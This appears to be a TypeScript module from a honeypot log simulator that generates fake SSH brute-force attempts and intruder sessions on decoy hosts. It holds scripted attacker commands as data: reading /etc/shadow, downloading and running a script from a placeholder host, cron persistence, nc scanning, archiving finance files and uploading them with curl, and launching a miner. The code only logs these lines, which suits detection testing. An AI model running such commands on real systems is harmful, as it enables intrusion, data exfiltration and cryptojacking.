/** A person at a keyboard, who works from one decky to the next. */
import type { Decky } from '../deckies.ts'
import { type LogBook, MINUTE, SECOND, START } from '../log_book.ts'
import { type Random, random } from '../random.ts'
import { sshTry } from './ssh.ts'

const INTRUDER = '203.0.113.150'

const sessions: readonly { decky: Decky; minute: number; commands: readonly string[] }[] = [
  {
    decky: 'web-01',
    minute: 182,
    commands: [
      'id',
      'uname -a',
      'w',
      'cat /etc/passwd',
      'cat /etc/shadow',
      'ls -la /root /home',
      'ip addr',
      'ss -tlnp',
      'cat /root/.bash_history',
      'ping -c 1 192.0.2.11',
      'cat /root/.ssh/known_hosts',
      'curl -s http://203.0.113.250/x.sh -o /tmp/.x.sh',
      'chmod +x /tmp/.x.sh; /tmp/.x.sh',
      'echo "* * * * * /tmp/.x.sh" | crontab -',
      'for h in 11 14 16; do nc -zv 192.0.2.$h 22; done',
    ],
  },
  {
    decky: 'files-02',
    minute: 214,
    commands: [
      'hostname',
      'df -h',
      'find / -name "*.kdbx" -o -name "*.pem" 2>/dev/null',
      'ls -la /srv/share',
      'tar czf /tmp/.s.tgz /srv/share/finance',
      'curl -T /tmp/.s.tgz http://203.0.113.250/up/',
      'rm -f /tmp/.s.tgz; history -c',
    ],
  },
  {
    decky: 'db-07',
    minute: 251,
    commands: [
      'mysql -uroot -e "show databases"',
      'pg_dump prod > /tmp/p.sql',
      'wc -l /tmp/p.sql',
      "awk -F: '{print $1}' /etc/passwd",
      'wget -q http://203.0.113.250/k -O /tmp/k; chmod 755 /tmp/k',
      'nohup /tmp/k -o pool.example:3333 >/dev/null 2>&1 &',
      'exit',
    ],
  },
]

/** A person at a keyboard: pauses, typing mistakes in the pace, tools dropped, one decky to the next. */
export function intruder(log: LogBook): void {
  const dice = random('intruder')
  for (const { decky, minute, commands } of sessions) {
    const began = START + minute * MINUTE
    let at = began
    for (const password of ['root', 'toor', 'R00t-2026']) {
      sshTry(log, at, decky, INTRUDER, {
        user: 'root',
        password: `${password}-${decky}`,
        ok: password !== 'toor',
      })
      at += dice.gap(7000)
    }
    for (const cmd of commands) {
      log.command(at, decky, `uid=0 user=root src=${INTRUDER} pwd=/root cmd=${cmd}`)
      at += dice.gap(cmd.length * 350 + 4000)
      if (/curl -s|wget/.test(cmd)) {
        dropped(log, at, decky, cmd.includes('wget') ? '/tmp/k' : '/tmp/.x.sh', dice)
        at += dice.gap(800)
      }
    }
    const duration_s = ((at - began) / SECOND).toFixed(3)
    const sid = [8, 4, 4, 4, 12].map((length) => dice.hex(length)).join('-')
    const session = {
      sid,
      service: 'ssh',
      src_ip: INTRUDER,
      duration_s,
      bytes: 400 * commands.length,
      truncated: 'false',
    }
    log.event(at, decky, 'sessrec', 'session_recorded', session)
  }
}

function dropped(log: LogBook, at: number, decky: Decky, orig_path: string, dice: Random): void {
  const sha256 = dice.hex(64)
  const name = orig_path.slice(orig_path.lastIndexOf('/') + 1)
  log.event(at, decky, 'ssh', 'file_captured', {
    stored_as: `2026-03-01T03:00:00Z_${sha256.slice(0, 12)}_${name}`,
    sha256,
    size: dice.between(900, 90_000),
    orig_path,
    src_ip: INTRUDER,
    src_port: dice.between(32768, 60999),
    ssh_user: 'root',
    ssh_pid: dice.between(300, 900),
    attribution: 'pid-chain',
    writer_pid: dice.between(300, 900),
    writer_comm: orig_path.endsWith('.sh') ? 'curl' : 'wget',
    writer_uid: 0,
    mtime: '2026-03-01 03:00:00.000000000 +0000',
    meta_json_b64: Buffer.from(JSON.stringify({ writer_cmdline: name })).toString('base64'),
  })
}
